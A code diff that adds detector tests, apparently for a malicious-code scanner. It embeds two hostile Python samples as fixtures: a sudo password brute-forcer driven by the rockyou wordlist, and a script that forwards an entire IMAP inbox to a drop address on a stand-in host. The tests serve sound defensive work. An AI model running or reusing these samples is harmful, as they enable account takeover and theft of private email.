@@ -445,3 +445,61 @@ fn tabled_command_words_in_constants() {
     let a = run(&listing);
     assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
 }
+
+const SUDO_GUESS: &str = r#"import subprocess
+for pw in open("/usr/share/wordlists/rockyou.txt"):
+    r = subprocess.run(["sudo", "-S", "-k", "true"], input=pw, capture_output=True, text=True)
+    if r.returncode == 0:
+        print("found", pw)
+        break
+"#;
+
+/// sudo's words kept in constants still read as sudo asked for a password
+/// on its standard input.
+#[test]
+fn sudo_words_in_constants() {
+    let hoisted = SUDO_GUESS
+        .replace(
+            "import subprocess\n",
+            "import subprocess\nSUDO = 'sudo'\nSTDIN = '-S'\n",
+        )
+        .replace("[\"sudo\", \"-S\",", "[SUDO, STDIN,");
+    assert_same(SUDO_GUESS, &hoisted);
+    // Control: the constants run another program, which asks nothing.
+    let other = hoisted.replace("SUDO = 'sudo'", "SUDO = 'grep'");
+    let a = run(&other);
+    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
+}
+
+const MAILBOX_FORWARD: &str = r#"import imaplib
+import smtplib
+from email.message import EmailMessage
+box = imaplib.IMAP4_SSL("imap.example.org")
+box.login("alice@example.org", "hunter2")
+box.select("INBOX")
+_, ids = box.search(None, "ALL")
+s = smtplib.SMTP("smtp.203.0.113.9.example", 587)
+for num in ids[0].split():
+    _, data = box.fetch(num, "(RFC822)")
+    msg = EmailMessage()
+    msg["To"] = "drop@203.0.113.9.example"
+    msg.set_content(data[0][1].decode(errors="replace"))
+    s.send_message(msg)
+"#;
+
+/// The message part a mailbox fetch asks for, kept in a constant, still
+/// fetches whole messages.
+#[test]
+fn mail_fetch_part_in_a_constant() {
+    let hoisted = MAILBOX_FORWARD
+        .replace(
+            "from email.message",
+            "WHOLE = '(RFC822)'\nfrom email.message",
+        )
+        .replace("box.fetch(num, \"(RFC822)\")", "box.fetch(num, WHOLE)");
+    assert_same(MAILBOX_FORWARD, &hoisted);
+    // Control: only the headers' subject fetched.
+    let headers = hoisted.replace("'(RFC822)'", "'(BODY[HEADER.FIELDS (SUBJECT)])'");
+    let a = run(&headers);
+    assert!(!rules(&a).contains(&"MB950"), "{:?}", a.findings);
+}
